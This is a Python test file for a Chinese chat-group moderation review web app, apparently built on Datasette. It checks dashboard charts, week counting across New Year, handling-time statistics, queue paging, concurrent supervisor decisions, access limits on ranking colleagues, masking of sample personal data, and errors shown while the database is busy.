    """After a year, bars ran past the chart's right edge and under the legend: the
    newest weeks, the ones a supervisor looks for, were the ones hidden."""
    from review.charts import weekly_svg

    mondays = weeks_from(date(2025, 1, 6), weeks)
    svg = weekly_svg([(monday, "offtopic", 1) for monday in mondays])
    bars = re.findall(r'<rect x="(\d+)" y="[\d.]+" width="(\d+)" height="[\d.]+" fill="[^"]+"><title>(\S+) ', svg)
    legend_x = min(int(x) for x in re.findall(r'<rect x="(\d+)" y="[\d.-]+" width="10" height="10"', svg))
    assert bars[-1][2] == mondays[-1] and all(int(x) + int(w) < legend_x for x, w, _ in bars)
    shown = [week for _, _, week in bars]
    assert shown == mondays[-len(shown):]
    assert (f"最近 {len(shown)} 周" in svg) == (len(shown) < weeks)


def test_weeks_far_apart_are_not_read_as_neighbours_and_each_year_is_named():
    """Flags of 2025-03-03 and 2026-11-23 stood as neighbours labelled 03-03 and 11-23,
    with no year: a supervisor read them as one spring."""
    from review.charts import weekly_svg

    svg = weekly_svg([("2025-03-03", "offtopic", 1), ("2026-11-23", "offtopic", 2)])
    drawn = re.findall(r'<title>(\S+) 起一周', svg)
    assert drawn == ["2025-03-03", "2026-11-23"]  # both in sight, the archive's past as much as this week
    assert "此处间隔 89 周无标记" in svg and "2025年" in svg and "2026年" in svg
    # Weeks one after the other have no gap between them.
    assert "间隔" not in weekly_svg([("2025-12-22", "offtopic", 1), ("2025-12-29", "offtopic", 2)])


async def test_a_week_across_new_year_is_one_week_on_the_dashboard_and_in_the_weekly_query(ds, db_path):
    from classifiers.classify import insert_flags

    # Tuesday 2025-12-30 and Friday 2026-01-02: one week, Monday 2025-12-29 to Sunday 2026-01-04.
    conn = sqlite3.connect(db_path)
    with conn:
        insert_flags(conn, [{"subject": f"test:{day}", "group_id": 1, "category": "red_packet", "score": 1.0,
                             "detector": "test", "article": "群规 第十二条", "evidence": "x", "occurred_at": f"{day}T10:00:00"}
                            for day in ("2025-12-30", "2026-01-02")])
    conn.close()
    page = await ds.client.get("/-/qunguan/dashboard", cookies=cookies_for(ds, "u-auditor"))
    assert "<title>2025-12-29 起一周 红包/转账（微腐败）：2</title>" in page.text
    rows = (await ds.client.get("/archive/flags_per_group_week.json?_shape=array", cookies=cookies_for(ds, "u-auditor"))).json()
    assert [(r["周"], r["数量"]) for r in rows if r["类别"] == "红包/转账（微腐败）" and r["周"] >= "2025-12"] == [("2025-12-29", 2)]


@pytest.mark.parametrize("decided", [False, True])
async def test_a_new_year_part_week_the_check_closed_is_counted_nowhere_on_the_dashboard(ds, qunguan, db_path, query,
                                                                                          decided):
    # A supervisor's verdict on the part week stays theirs, and counts.
    new_year_part_weeks(qunguan, db_path, decided)
    left_out = 0 if decided else 1
    flags = query("select count(*) n from flags")[0]["n"] - left_out
    cookies = cookies_for(ds, "u-auditor")
    page = (await ds.client.get("/-/qunguan/dashboard", cookies=cookies)).text
    assert f"<title>2024-12-30 起一周 聊天群/夸夸群倾向：{2 - left_out}</title>" in page
    waiting, handled = map(int, re.search(r"待处置 (\d+)　已办结 (\d+)", page).groups())
    assert waiting + handled == flags
    per_week = (await ds.client.get("/archive/flags_per_group_week.json?_shape=array", cookies=cookies)).json()
    assert [r["数量"] for r in per_week if r["周"] == "2024-12-30"] == [2 - left_out]
    per_article = (await ds.client.get("/archive/flags_per_article.json?_shape=array", cookies=cookies)).json()
    assert sum(r["数量"] for r in per_article) == flags


async def test_handling_time_counts_only_a_persons_decisions(ds, db_path, query):
    # The group checks close flags by themselves (a registered admin, a recounted week), and
    # `groups set --exempt` closes an exempt group's flags: none of them is anyone handling
    # a case, and a flag the check reopened is handled when a supervisor decides on it.
    from review import charts, handling

    hours_ago = {"check": 100, "command": 50, "supervisor": 2, "reopened": 4}
    flags = dict(zip(hours_ago, [r["id"] for r in query("select id from flags order by id limit 4")]))
    conn = sqlite3.connect(db_path)
    with conn:
        conn.executemany("update flags set created_at = strftime('%Y-%m-%dT%H:%M:%S', 'now', '+8 hours', ?) where id = ?",
                         [(f"-{hours} hours", flags[name]) for name, hours in hours_ago.items()])

    def decided(name, actor, status="resolved"):
        handling.record(conn, [flags[name]], handling.validate(status, "none", "", None), actor)

    decided("check", "rules@groups")
    decided("command", "cli:admin")
    decided("supervisor", "u-supervisor", "dismissed")
    decided("reopened", "rules@groups", "reviewing")
    decided("reopened", "u-admin", "confirmed")
    figures = charts.figures(conn)
    conn.close()
    assert figures["median_hours"] == 3.0  # the supervisor's 2 hours and the admin's 4
    assert [unit["avg_hours"] for unit in figures["units"] if unit["avg_hours"] is not None] == [3.0]
    page = await ds.client.get("/-/qunguan/dashboard", cookies=cookies_for(ds, "u-auditor"))
    assert "处置用时中位数：3.0 小时" in page.text
    per_person = (await ds.client.get("/archive/time_to_handle.json?_shape=array", cookies=cookies_for(ds, "u-auditor"))).json()
    assert [(r["核查人"], r["处置数"], r["平均用时"]) for r in per_person] == [("u-admin", 1, 4.0), ("u-supervisor", 1, 2.0)]
    # A ranking of named colleagues is not the supervisors' to read: they see it per unit.
    supervisor = cookies_for(ds, "u-supervisor")
    assert (await ds.client.get("/archive/time_to_handle.json", cookies=supervisor)).status_code == 403
    per_unit = await ds.client.get("/archive/time_to_handle_per_unit.json?_shape=array", cookies=supervisor)
    assert [(r["单位"], r["处置数"], r["平均用时"], r["最长用时"]) for r in per_unit.json()] == [("（未登记单位）", 2, 3.0, 4.0)]


async def test_no_handling_time_while_only_the_checks_closed_flags(ds, db_path, query):
    from review import charts, handling

    conn = sqlite3.connect(db_path)
    [flag] = [r["id"] for r in query("select id from flags order by id limit 1")]
    handling.record(conn, [flag], handling.validate("resolved", "none", "", None), "rules@groups")
    assert charts.figures(conn)["median_hours"] is None
    conn.close()
    page = await ds.client.get("/-/qunguan/dashboard", cookies=cookies_for(ds, "u-auditor"))
    # Beside 已办结 counting the checks' closings too, the figure says why it has none.
    assert "处置用时中位数：暂无核查人处置的标记（系统自动关闭的不计）" in page.text


def test_the_server_counts_flags_without_loading_the_chat_model(ds, db_path):
    # The dashboard and the canned queries leave the part weeks of New Year out by the group
    # checks' name: the module of the checks loads scikit-learn and numba with the chat model,
    # some 200 MB in every server from its start. A new process, as `qunguan serve` starts one.
    import subprocess
    import sys

    serve = f"""
import asyncio, sys
from pathlib import Path
from review import auth
from review.site import actor_cookie, make_datasette
ds = make_datasette(Path({str(db_path)!r}))
cookies = {{"ds_actor": actor_cookie(ds, auth.get_user(auth.connect(auth.users_path(Path({str(db_path)!r}))), "u-auditor"))}}
for path in ("/-/qunguan/dashboard", "/archive/flags_per_group_week.json", "/archive/flags_per_article.json"):
    assert asyncio.run(ds.client.get(path, cookies=cookies)).status_code == 200, path
print(sorted({{"sklearn", "numba", "scipy"}} & set(sys.modules)))
"""
    run = subprocess.run([sys.executable, "-c", serve], capture_output=True, text=True)
    assert run.returncode == 0, run.stderr
    assert run.stdout.strip() == "[]"


async def test_a_later_queue_page_links_back_to_the_first(ds, query):
    cookies = cookies_for(ds, "u-supervisor")
    first = await ds.client.get("/-/qunguan/queue?category=group_member_unverified", cookies=cookies)
    assert "« 第一页" not in first.text
    later = await ds.client.get("/-/qunguan/queue?category=group_member_unverified&before=1:999999", cookies=cookies)
    assert 'href="/-/qunguan/queue?category=group_member_unverified">« 第一页' in later.text


@pytest.mark.parametrize("text, evidence, marked", [
    ("王某的手机号是13979512345，家住城北小区", "消息中含有个人信息：手机号 139*****345", "13979512345"),
    ("户主身份证 3609 0219 5811 2034 24，请核对", "消息中含有个人信息：身份证号 3609**********3424", "3609 0219 5811 2034 24"),
    ("统一账号：admin / 密码：Xy123456，登录后请改密", "群内发布账号口令：密码：X******6", "Xy123456"),
])
def test_a_number_the_evidence_masks_is_still_marked_in_the_message(text, evidence, marked):
    # The supervisor sees where it is without the evidence spreading it.
    from review.highlight import highlight

    assert f"<mark>{marked}</mark>" in str(highlight(text, evidence))


def test_the_queue_pages_back_as_it_pages_forward(ds, db_path):
    from ingest.schema import open_archive
    from review.queue import queue

    conn = open_archive(str(db_path)).conn
    pages, cursor = [], None
    while True:
        page = queue(conn, {"status": "all"}, cursor, page=3)
        pages.append(([r["id"] for r in page.rows], cursor, page.prev_cursor))
        if not page.next_cursor:
            break
        cursor = page.next_cursor
    assert len(pages) > 2
    assert pages[0][2] is None and pages[1][2] == ""  # the first page has none; the second leads to the first
    for (_, before, _), (_, _, back) in zip(pages[1:], pages[2:]):
        assert back == before  # each later page leads to the cursor of the page before it


async def test_two_supervisors_on_one_case_do_not_override_each_other(ds, query):
    flag_id = first_flag(query)
    case = f"/-/qunguan/flags/{flag_id}"
    first, first_cookies = await form_fields(ds, case, cookies_for(ds, "u-supervisor"))
    second, second_cookies = await form_fields(ds, case, cookies_for(ds, "u-admin"))  # both open the case
    done = await ds.client.post(case, cookies=first_cookies, data={
        **first, "status": "resolved", "action": "removed", "note": "已移出群聊"})
    assert done.status_code == 302
    late = await ds.client.post(case, cookies=second_cookies, data={
        **second, "status": "dismissed", "action": "none", "note": "我看是误报"})
    assert late.status_code == 409 and "已记录" not in late.text
    warning = re.sub(r"<[^>]+>", "", late.text.split("<h1>")[0])
    assert "未能记录：您打开此页后，u-supervisor 于" in warning and "记为已处置（措施：移出群聊，备注：已移出群聊）" in warning
    assert ">我看是误报</textarea>" in late.text and '<option value="dismissed" selected>' in late.text  # kept
    assert [r["actor_id"] for r in query("select actor_id from handling")] == ["u-supervisor"]
    # Having seen it, they may still record theirs: the page they were shown knows the decision now.
    again = {name: value for name, value in re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)"', late.text)}
    resent = await ds.client.post(case, cookies=second_cookies, data={
        **again, "status": "dismissed", "action": "none", "note": "我看是误报"})
    assert resent.status_code == 302
    assert [r["status"] for r in query("select status from handling order by id")] == ["resolved", "dismissed"]


async def test_a_form_sent_back_to_be_corrected_does_not_hide_a_decision_made_meanwhile(ds, query):
    # Both open the case; the admin dismisses it; the supervisor, unaware, sends 辟谣
    # without its source. Told only to add the source, she would have recorded over it.
    flag_id = first_flag(query)
    case = f"/-/qunguan/flags/{flag_id}"
    hers, cookies = await form_fields(ds, case, cookies_for(ds, "u-supervisor"))
    assert (await decide(ds, flag_id, "u-admin", status="dismissed", action="none")).status_code == 302
    invalid = await ds.client.post(case, cookies=cookies, data={
        **hers, "status": "confirmed", "action": "refuted", "note": ""})
    assert invalid.status_code == 409
    warning = re.sub(r"<[^>]+>", "", invalid.text.split("<h1>")[0])
    assert "未能记录：您打开此页后，u-admin 于" in warning and "记为误报" in warning
    assert [r["actor_id"] for r in query("select actor_id from handling")] == ["u-admin"]


async def test_bulk_leaves_out_flags_decided_since_the_queue_was_loaded(ds, query):
    ids = [r["id"] for r in query("select id from flags order by id limit 3")]
    hidden, cookies = await form_fields(ds, "/-/qunguan/queue", cookies_for(ds, "u-admin"))
    assert (await decide(ds, ids[1], "u-supervisor", status="confirmed", action="talked")).status_code == 302
    response = await ds.client.post("/-/qunguan/bulk", cookies=cookies, data={
        **hidden, "flag": [str(i) for i in ids], "status": "dismissed"})
    assert response.status_code == 302
    assert [(r["flag_id"], r["status"]) for r in query("select flag_id, status from handling order by id")] == [
        (ids[1], "confirmed"), (ids[0], "dismissed"), (ids[2], "dismissed")]
    queue = await ds.client.get(response.headers["location"], cookies={**cookies, **response.cookies})
    assert "已将 2 条标记记为误报" in queue.text
    assert f"以下标记在页面加载后已有新的处置，未记录：#{ids[1]}（u-supervisor 记为属实）" in queue.text


async def test_bulk_names_a_flag_the_user_decided_in_another_tab_as_their_own(ds, query):
    ids = [r["id"] for r in query("select id from flags order by id limit 2")]
    hidden, cookies = await form_fields(ds, "/-/qunguan/queue", cookies_for(ds, "u-admin"))
    assert (await decide(ds, ids[0], "u-admin", status="confirmed", action="talked")).status_code == 302
    response = await ds.client.post("/-/qunguan/bulk", cookies=cookies, data={
        **hidden, "flag": [str(i) for i in ids], "status": "dismissed"})
    queue = await ds.client.get(response.headers["location"], cookies={**cookies, **response.cookies})
    assert f"未记录：#{ids[0]}（您本人记为属实）" in queue.text and "他人" not in queue.text


async def test_auditors_read_the_decision_trail_in_chinese(ds, query):
    flag_id = first_flag(query)
    await decide(ds, flag_id, "u-supervisor", status="resolved", action="removed", note="已移出")
    await decide(ds, flag_id, "u-admin", status="dismissed", action="none", note="复核为误报")
    cookies = cookies_for(ds, "u-auditor")
    for page in ("/-/qunguan/dashboard", "/-/qunguan/users", "/archive/handling"):  # where auditors look
        assert 'href="/archive/handling_trail"' in (await ds.client.get(page, cookies=cookies)).text, page
    rows = (await ds.client.get("/archive/handling_trail.json?_shape=array&标记=&处置人=", cookies=cookies)).json()
    message = query("select m.sent_at, m.text from flags f join messages m on m.id = f.message_id where f.id = ?",
                    [flag_id])[0]
    assert [(r["标记"], r["群"], r["消息时间"], r["处置人"], r["状态"], r["措施"], r["备注"]) for r in rows] == [
        (flag_id, "防火群", message["sent_at"], "u-admin", "误报", "无", "复核为误报"),
        (flag_id, "防火群", message["sent_at"], "u-supervisor", "已处置", "移出群聊", "已移出")]
    assert rows[0]["消息或依据"] == message["text"][:80] and rows[0]["类别"] in CATEGORY_NAMES.values()
    mine = (await ds.client.get("/archive/handling_trail.json?_shape=array&标记=&处置人=u-supervisor",
                                cookies=cookies)).json()
    assert [r["状态"] for r in mine] == ["已处置"]
    form = await ds.client.get("/archive/handling_trail", cookies=cookies)  # the auditor fills in Chinese boxes
    assert '>标记</label>' in form.text and '>处置人</label>' in form.text
    exported = await ds.client.get("/archive/handling_trail.csv?标记=&处置人=", cookies=cookies)
    assert "误报,无,,复核为误报" in exported.content.decode("utf-8-sig")
    assert "dismissed" not in exported.text and "removed" not in exported.text


@pytest.mark.parametrize("listing", ["/archive/handling_trail?标记=&处置人=", "/archive/stale_open_flags"])
async def test_an_auditor_goes_from_a_listed_flag_to_its_case(ds, query, db_path, listing):
    flag_id = first_flag(query)
    await decide(ds, flag_id, "u-supervisor", status="reviewing", action="none")
    conn = sqlite3.connect(db_path)
    with conn:  # raised long ago, and open since
        conn.execute("update flags set created_at = '2020-01-01T00:00:00' where id = ?", [flag_id])
    conn.close()
    page = await ds.client.get(listing, cookies=cookies_for(ds, "u-auditor"))
    assert f'<a href="/-/qunguan/flags/{flag_id}">{flag_id}</a>' in page.text


# Faceted, sorted or exported by author, every decision ranks colleagues by their handling
# as the time_to_handle query does, which is for auditors and admins only.
RANKING_ROUTES = ["/archive/handling?_facet=actor_id", "/archive/handling?_sort=actor_id", "/archive/handling.csv",
                  "/archive/handling.json?actor_id=u-admin", "/archive/flag_state?_facet=actor_id",
                  "/archive/handling_trail?标记=&处置人=u-admin", "/archive/time_to_handle"]


@pytest.mark.parametrize("actor, ranks", [("u-supervisor", False), ("u-auditor", True), ("u-admin", True)])
async def test_a_supervisor_sees_who_decided_a_case_but_cannot_rank_colleagues(ds, query, actor, ranks):
    flag_id = first_flag(query)
    await decide(ds, flag_id, "u-supervisor", status="reviewing", action="none", note="核实中")
    await decide(ds, flag_id, "u-admin", status="dismissed", action="none", note="复核为误报")
    cookies = cookies_for(ds, actor)
    case = await ds.client.get(f"/-/qunguan/flags/{flag_id}", cookies=cookies)
    assert case.status_code == 200 and "<td>u-supervisor</td>" in case.text and "<td>u-admin</td>" in case.text
    answers = {route: (await ds.client.get(route, cookies=cookies)).status_code for route in RANKING_ROUTES}
    assert answers == {route: 200 if ranks else 403 for route in RANKING_ROUTES}
    # Nor is a way there offered: the flag's page lists no decisions, the dashboard no trail.
    row = await ds.client.get(f"/archive/flags/{flag_id}", cookies=cookies)
    assert row.status_code == 200 and ("（handling 表的 flag_id 列）" in row.text) == ranks
    dashboard = await ds.client.get("/-/qunguan/dashboard", cookies=cookies)
    assert ('href="/archive/handling_trail"' in dashboard.text) == ranks
    assert ("见该标记的处置页面" in dashboard.text) != ranks


async def test_a_note_keeps_its_lines_but_no_control_characters(ds, query):
    flag_id = first_flag(query)
    typed = "已提醒\x00本人\x07\r\n第二行\t附链接\x1b[31m"  # as a browser sends a textarea, and worse
    assert (await decide(ds, flag_id, "u-supervisor", status="resolved", action="reminded", note=typed)).status_code == 302
    assert query("select note from handling")[0]["note"] == "已提醒本人\n第二行\t附链接[31m"


async def test_a_decision_sent_while_another_program_writes_comes_back_unsaved_in_chinese(ds, query, db_path):
    """An import or `classify` holds the archive's write lock for a while: the form comes
    back filled in, saying nothing was saved, rather than a server error in English."""
    flag_id = first_flag(query)
    hidden, cookies = await form_fields(ds, f"/-/qunguan/flags/{flag_id}", cookies_for(ds, "u-supervisor"))
    bulk, _ = await form_fields(ds, "/-/qunguan/queue", cookies)
    writer = sqlite3.connect(db_path)
    writer.execute("begin immediate")
    try:
        case = await ds.client.post(f"/-/qunguan/flags/{flag_id}", cookies=cookies,
                                    data={**hidden, "status": "confirmed", "action": "talked", "note": "已约谈本人"})
        queue = await ds.client.post("/-/qunguan/bulk", cookies=cookies,
                                     data={**bulk, "flag": str(flag_id), "status": "dismissed", "note": ""})
    finally:
        writer.rollback()
    assert case.status_code == 503
    assert "数据库正忙" in case.text and "本次处置未保存" in case.text and "已约谈本人" in case.text
    assert "locked" not in case.text
    assert queue.status_code == 503 and "本次处置未保存" in queue.text
    assert f'value="{flag_id}" aria-label="选择标记 {flag_id}" checked' in queue.text  # ticked, to send again
    assert query("select count(*) n from handling")[0]["n"] == 0


async def test_a_form_kept_while_the_archive_was_busy_does_not_hide_a_decision_made_meanwhile(ds, query, db_path):
    """The busy archive kept the form from being checked against newer decisions: the copy
    sent back must still know only what its author had seen, so that sending it again
    once the archive is free warns of the decision made meanwhile, as a form sent back to
    be corrected does, rather than recording over it. Sent again with nothing new, it is
    recorded once, its token still good."""
    flag_id = first_flag(query)
    case = f"/-/qunguan/flags/{flag_id}"
    hers, cookies = await form_fields(ds, case, cookies_for(ds, "u-supervisor"))
    assert (await decide(ds, flag_id, "u-admin", status="dismissed", action="none")).status_code == 302
    writer = sqlite3.connect(db_path)
    writer.execute("begin immediate")
    try:
        busy = await ds.client.post(case, cookies=cookies, data={**hers, "status": "confirmed", "action": "talked"})
    finally:
        writer.rollback()
    assert busy.status_code == 503
    kept = {name: html.unescape(value) for name, value in HIDDEN.findall(busy.text)}
    assert kept["seen"] == hers["seen"]
    again = await ds.client.post(case, cookies=cookies, data={**kept, "status": "confirmed", "action": "talked"})
    assert again.status_code == 409 and "未能记录：您打开此页后，u-admin 于" in re.sub(r"<[^>]+>", "", again.text)
    assert [r["actor_id"] for r in query("select actor_id from handling")] == ["u-admin"]
    seen = {name: html.unescape(value) for name, value in HIDDEN.findall(again.text)}  # she has seen it now
    assert (await ds.client.post(case, cookies=cookies, data={**seen, "status": "confirmed", "action": "talked"})
            ).status_code == 302
    assert [r["actor_id"] for r in query("select actor_id from handling order by id")] == ["u-admin", "u-supervisor"]
